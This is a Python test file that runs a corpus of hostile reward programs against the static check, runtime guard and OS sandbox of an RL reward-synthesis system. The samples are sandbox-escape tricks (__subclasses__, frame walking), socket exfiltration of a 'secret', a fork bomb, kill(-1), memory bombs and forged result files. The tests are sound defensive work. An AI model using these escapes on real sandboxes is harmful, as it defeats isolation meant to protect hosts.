"""The security corpus: hostile reward programs, each blocked or contained, the main process alive.

Three layers stand between a reward program and the machine (pbrl/synthesis/SECURITY.md):

* S — the static check (``check.py``), in the main process, before anything runs;
* G — the runtime guard inside the worker (``guard.py``): restricted builtins and
  imports, dangerous os/subprocess/socket/shutil functions disabled;
* O — the OS layer of the worker (``jail.py``, ``sandbox.py``): scrubbed environment,
  temporary cwd, namespaces (no network, own PIDs, read-only file system), no
  capabilities, rlimits, wall-clock timeout; and the trusted parent that validates
  the worker's JSON and weights and recomputes fitness on fresh seeds.

Every program the static check blocks is also run with the static check switched off
(G + O), and with both the static check and the runtime guard off (O alone), to show
what the sandbox contains by itself. Programs that pass the static check run with all
layers. The switches exist for these tests only.
"""

import json
import os
import socket
import threading

import numpy as np
import pytest

from pbrl.synthesis.check import check_program
from pbrl.synthesis.errors import DisallowedConstruct
from pbrl.synthesis.jobs import ProbeJob, TrainJob, run_probe_job, run_train_job
from pbrl.synthesis.sandbox import isolation_status

TASK = "pbrl/HalfCheetah-v5"
#: the sandboxes of this module put their working directories here (to find leftover processes)
TMP_ROOT = None


@pytest.fixture(autouse=True, scope="module")
def _tmp_root(tmp_path_factory):
    global TMP_ROOT
    TMP_ROOT = str(tmp_path_factory.mktemp("sandboxes"))
    yield
NAMESPACES = isolation_status()[0]
needs_namespaces = pytest.mark.skipif(not NAMESPACES, reason="unshare/namespaces unavailable: "
                                      "fork bombs and kill(-1) are only run inside a PID namespace")

# A tiny PPO for the two tampering programs that must reach the end of training.
TINY_HP = None


def tiny_hp():
    global TINY_HP
    if TINY_HP is None:
        from pbrl.agents.hyperparams import resolve

        TINY_HP = resolve("ppo", TASK, {"n_envs": 4, "n_steps": 64, "batch_size": 64, "n_epochs": 1, "net_arch": [16, 16]})
    return TINY_HP


def sandbox(static=True, guard=True, **kw):
    cfg = dict(static_check=static, runtime_guard=guard, probe_timeout=8.0, grace=1.0, memory_mb=512)
    cfg.update(kw)
    return cfg


def probe(source, **sandbox_kw):
    sandbox_kw.setdefault("tmp_root", TMP_ROOT)
    return run_probe_job(ProbeJob("hostile", TASK, source, "quantities", seed=0, sandbox=sandbox(**sandbox_kw), steps=8, num_envs=2))


def train(source, **sandbox_kw):
    sandbox_kw.setdefault("tmp_root", TMP_ROOT)
    return run_train_job(TrainJob("hostile", TASK, source, "quantities", seed=0, steps=256, hyperparams=tiny_hp(),
                                  eval_episodes=1, sandbox=sandbox(**sandbox_kw)))


@pytest.fixture
def marker(tmp_path):
    """A path outside the worker's directory that a hostile program tries to create."""
    path = tmp_path / "PWNED"
    yield str(path)
    assert not path.exists(), "a hostile program wrote outside its sandbox"


def kinds(result):
    return None if result.ok else result.failure["kind"]


# -- importing os / subprocess / socket -----------------------------------------------------------

def test_import_os_system(marker):
    src = f"import os\n\ndef compute_reward(obs, action, next_obs, info):\n    os.system('touch {marker}')\n    return info['x_velocity'], {{}}\n"
    with pytest.raises(DisallowedConstruct, match="import 'os'"):
        check_program(src)                                                  # S blocks it
    assert kinds(probe(src, static=False)) == "guard_violation"             # G blocks the import
    r = probe(src, static=False, guard=False)                               # O: os.system runs, touch hits a read-only fs
    assert r.ok or kinds(r) == "runtime_error"


def test_import_subprocess(marker):
    src = ("import subprocess\n\ndef compute_reward(obs, action, next_obs, info):\n"
           f"    subprocess.run(['touch', '{marker}'])\n    return info['x_velocity'], {{}}\n")
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    assert kinds(probe(src, static=False)) == "guard_violation"
    probe(src, static=False, guard=False)                                   # the marker fixture checks the file system


def test_socket_exfiltration_gets_nowhere():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    received = []

    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
                conn.close()
            except (socket.timeout, OSError):
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    src = ("import socket\n\ndef compute_reward(obs, action, next_obs, info):\n"
           f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n    s.sendall(b'secret')\n"
           "    return info['x_velocity'], {}\n")
    try:
        with pytest.raises(DisallowedConstruct):
            check_program(src)
        assert kinds(probe(src, static=False)) == "guard_violation"
        r = probe(src, static=False, guard=False)
        if NAMESPACES:
            assert kinds(r) == "runtime_error"                              # O: no network in the namespace
            assert "refused" in r.failure["message"].lower() or "unreachable" in r.failure["message"].lower()
    finally:
        stop.set()
        thread.join()
        server.close()
    if NAMESPACES:
        assert received == []


# -- escapes through object graphs -----------------------------------------------------------

def test_subclasses_escape(marker):
    src = ("def compute_reward(obs, action, next_obs, info):\n"
           "    for c in ().__class__.__base__.__subclasses__():\n"
           "        if c.__name__ == '_wrap_close':\n"
           f"            c.__init__.__globals__['system']('touch {marker}')\n"
           "    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct, match="attributes starting with '_'"):
        check_program(src)
    r = probe(src, static=False)
    assert kinds(r) == "guard_violation" and "os.system" in r.failure["message"]   # G: os.system disabled
    probe(src, static=False, guard=False)                                           # O: read-only fs


def test_frame_walking_escape(marker):
    # Walk from the program's frame to the worker's module globals and use its saved open().
    src = ("def compute_reward(obs, action, next_obs, info):\n"
           "    try:\n        1 / 0\n    except ZeroDivisionError as e:\n        frame = e.__traceback__.tb_frame\n"
           "    for _ in range(10):\n"
           "        if frame is None or '_open' in frame.f_globals:\n            break\n"
           "        frame = frame.f_back\n"
           f"    frame.f_globals['_open']('{marker}', 'w').write('x')\n"
           "    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct) as info:
        check_program(src)
    assert "try" in info.value.detail and "__traceback__" in info.value.detail
    # The guard does not stop frame walking (it is not a sandbox by itself): the read-only
    # file system does.
    for kw in ({"static": False}, {"static": False, "guard": False}):
        r = probe(src, **kw)
        assert kinds(r) == "runtime_error"
        if NAMESPACES:
            assert "Read-only file system" in r.failure["message"]


def test_writing_files(marker):
    src = f"def compute_reward(obs, action, next_obs, info):\n    open('{marker}', 'w').write('x')\n    return info['x_velocity'], {{}}\n"
    with pytest.raises(DisallowedConstruct, match="open"):
        check_program(src)
    r = probe(src, static=False)
    assert kinds(r) == "runtime_error" and "open" in r.failure["message"]          # G: no open in the builtins
    r = probe(src, static=False, guard=False)
    assert kinds(r) == "runtime_error"
    if NAMESPACES:
        assert "Read-only file system" in r.failure["message"]                    # O


def test_environment_is_scrubbed(monkeypatch):
    monkeypatch.setenv("PBRL_TEST_SECRET", "sk-should-not-leak")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-should-not-leak")
    src = ("import numpy as np\nimport os\n\ndef compute_reward(obs, action, next_obs, info):\n"
           "    n = len(os.environ.get('PBRL_TEST_SECRET', '')) + len(os.environ.get('OPENAI_API_KEY', ''))\n"
           "    return np.full(len(obs), float(n)), {}\n")
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    r = probe(src, static=False, guard=False)                                       # O: the worker never had the keys
    assert r.ok and r.result["probe"]["reward"]["max"] == 0.0


# -- resources -------------------------------------------------------------------------------------

def test_infinite_loop_times_out():
    src = "def compute_reward(obs, action, next_obs, info):\n    for i in range(10 ** 12):\n        pass\n    return info['x_velocity'], {}\n"
    check_program(src)                                                              # S lets it through
    r = probe(src, probe_timeout=3.0)
    assert kinds(r) in ("timeout", "cpu_time")                                      # O: wall clock, then SIGKILL


def test_memory_bombs():
    big = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    x = np.ones(1 << 34)\n    return info['x_velocity'], {}\n"
    grow = ("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n"
            "    keep = [np.ones(10 ** 7) for _ in range(1000)]\n    return info['x_velocity'], {}\n")
    for src in (big, grow):
        check_program(src)
        r = probe(src)
        assert kinds(r) == "out_of_memory"                                          # O: RLIMIT_AS budget


@needs_namespaces
def test_fork_bomb():
    src = "import os\n\ndef compute_reward(obs, action, next_obs, info):\n    while True:\n        os.fork()\n"
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    assert kinds(probe(src, static=False)) == "guard_violation"                    # G: import os refused
    # O: RLIMIT_NPROC (a small margin here, to spare the machine), then the PID namespace dies with the worker
    r = probe(src, static=False, guard=False, probe_timeout=3.0, nproc_margin=32)
    assert not r.ok
    # The namespace died with its first process: no forked copy survives the run.
    leftovers = [p for p in os.listdir("/proc") if p.isdigit() and _in_our_sandboxes(p)]
    assert leftovers == []


def _in_our_sandboxes(pid):
    """A process whose working directory is one of this module's sandbox directories."""
    try:
        return os.readlink(f"/proc/{pid}/cwd").startswith(TMP_ROOT)
    except OSError:
        return False  # gone, or a zombie about to be reaped


@needs_namespaces
def test_kill_everything_hits_only_the_sandbox():
    src = "import os\n\ndef compute_reward(obs, action, next_obs, info):\n    os.kill(-1, 9)\n    return info['x_velocity'], {}\n"
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    assert kinds(probe(src, static=False)) == "guard_violation"                    # G: os.kill disabled
    r = probe(src, static=False, guard=False)                                       # O: kill(-1) reaches only the PID namespace,
    assert kinds(r) == "runtime_error" and "ProcessLookupError" in r.failure["message"]   # where it finds no one to kill
    assert os.getppid() > 1  # this test process and its parent are alive


def test_huge_outputs():
    printer = "def compute_reward(obs, action, next_obs, info):\n    s = 'x' * (1 << 20)\n    for i in range(1000):\n        print(s)\n    return info['x_velocity'], {}\n"
    with pytest.raises(DisallowedConstruct, match="print"):
        check_program(printer)
    assert kinds(probe(printer, static=False)) == "runtime_error"                  # G: no print
    assert kinds(probe(printer, static=False, guard=False, file_size_mb=16)) == "output_limit"   # O: RLIMIT_FSIZE
    many_terms = ("def compute_reward(obs, action, next_obs, info):\n"
                  "    r = info['x_velocity']\n    return r, {'t' + str(i): r for i in range(100000)}\n")
    check_program(many_terms)
    assert kinds(probe(many_terms)) == "wrong_shape"                                # worker: at most 16 terms
    long_name = "def compute_reward(obs, action, next_obs, info):\n    r = info['x_velocity']\n    return r, {'x' * 10000: r}\n"
    assert kinds(probe(long_name)) == "wrong_shape"
    nan = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return np.full(len(obs), np.nan), {}\n"
    assert kinds(probe(nan)) == "non_finite"
    matrix = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return np.zeros((len(obs), 3)), {}\n"
    assert kinds(probe(matrix)) == "wrong_shape"


# -- tampering with what crosses back ---------------------------------------------------------------

FAKE_RESULT = json.dumps({
    "format": "pbrl.synthesis.worker/1", "stage": "train", "ok": True, "failure": None, "fitness": 1e9,
    "correlation": 1.0, "num_timesteps": 10 ** 9, "train_seconds": 1.0,
    "curves": {"steps": [1], "program_reward": [1e9], "task_score": [1e9], "true_return": [1e9],
               "episode_length": [1000], "program_terms": {"win": [1e9]}, "task_terms": {}},
})


def test_tampering_with_the_result_json():
    # Replace numpy's savez (the worker calls it last) to rewrite result.json with bragging numbers.
    src = ("import numpy as np\n_real = np.savez\n\n"
           "def _evil(path, **arrays):\n"
           f"    np.savetxt('result.json', np.zeros(0), header={FAKE_RESULT!r}, comments='')\n"
           "    _real(path, **arrays)\n\n"
           "np.savez = _evil\n\n"
           "def compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct) as info:
        check_program(src)
    assert "savez" in info.value.detail and "savetxt" in info.value.detail
    # G: numpy's savetxt needs open(), which the guard disabled (shown in a probe: cheaper than training)
    direct = ("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n"
              f"    np.savetxt('result.json', np.zeros(0), header={FAKE_RESULT!r}, comments='')\n"
              "    return info['x_velocity'], {}\n")
    r = probe(direct, static=False)
    assert kinds(r) == "guard_violation" and "open" in r.failure["message"]
    r = train(src, static=False, guard=False)     # O: the forgery lands; the parent's distrust contains it
    assert r.ok, r.failure
    assert r.result["curves"]["program_terms"] == {"win": [1e9]}     # the worker's JSON was forged ...
    assert abs(r.fitness["fitness"]) < 100 and r.fitness["episodes"] == 1  # ... fitness was measured anew
    assert "fitness" not in r.result                                      # unknown keys are never copied


def test_tampering_with_the_weights_file():
    # Hand back a pickle (object arrays) instead of plain arrays.
    src = ("import numpy as np\n_real = np.savez\n\n"
           "def _evil(path, **arrays):\n"
           "    _real(path, payload=np.array([1, 'x', None], dtype='O'))\n\n"
           "np.savez = _evil\n\n"
           "def compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    r = train(src, static=False)                  # G does not stop numpy writing through zipfile;
    assert kinds(r) == "tampered_output" and r.stage == "evaluation"   # the trusted loader refuses pickles
    assert "not a plain npz" in r.failure["message"] or "does not fit" in r.failure["message"]
    assert r.fitness is None


def test_the_main_process_is_unharmed():
    # After the whole corpus: this process still has its environment, its cwd and its children.
    assert os.path.isdir(os.getcwd())
    r = probe("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n")
    assert r.ok and r.isolation["namespaces"] == NAMESPACES
    layers = r.result["layers_reported"]
    assert layers["capabilities_dropped"] and set(layers["rlimits"]) >= {"address_space_mb", "cpu_seconds", "file_size_mb", "open_files", "nproc"}
    if NAMESPACES:
        assert layers["network_isolated"] and layers["filesystem_readonly"] and layers["pid_namespace"]
    assert np.isfinite(r.result["probe"]["reward"]["mean"])


def test_without_namespaces_the_other_layers_remain():
    # isolation="off": what a machine without unshare/user namespaces gets.
    good = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n"
    r = probe(good, isolation="off")
    assert r.ok and r.isolation["namespaces"] is False
    layers = r.result["layers_reported"]
    assert layers["namespaces"] is False and layers["capabilities_dropped"] and layers["rlimits"]["nproc"] > 0
    r = probe("import os\n" + good, static=False, isolation="off")
    assert kinds(r) == "guard_violation"
    r = probe("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    x = np.ones(1 << 34)\n    return x, {}\n",
              isolation="off")
    assert kinds(r) == "out_of_memory"
